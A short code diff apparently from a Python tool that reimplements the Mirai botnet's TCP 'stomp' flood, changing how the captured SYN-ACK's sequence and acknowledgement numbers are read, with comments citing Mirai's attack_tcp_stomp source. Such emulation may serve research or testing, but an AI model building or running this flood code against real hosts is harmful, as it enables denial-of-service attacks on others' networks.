@@ -175,9 +175,9 @@ def cmd_stomp(a) -> None:
         sp, dp, tseq, tack = struct.unpack("!HHII", f[t:t + 12])
         flags = f[t + 13]
         if sp == a.port and dp == lport and flags & 0x12 == 0x12:
-            # Mirai keeps the SYN-ACK's sequence and acknowledgement fields
-            # as read (network byte order in a little-endian integer).
-            seq, ack = struct.unpack("<II", f[t + 4:t + 12])
+            # Mirai keeps the SYN-ACK's sequence and acknowledgement
+            # numbers in host order (ntohl), as attack_tcp_stomp does.
+            seq, ack = tseq, tack
     if seq is None:
         raise SystemExit("no SYN-ACK seen")
     # attack_tcp_stomp then writes `tcph->seq = htons(seq++)` and
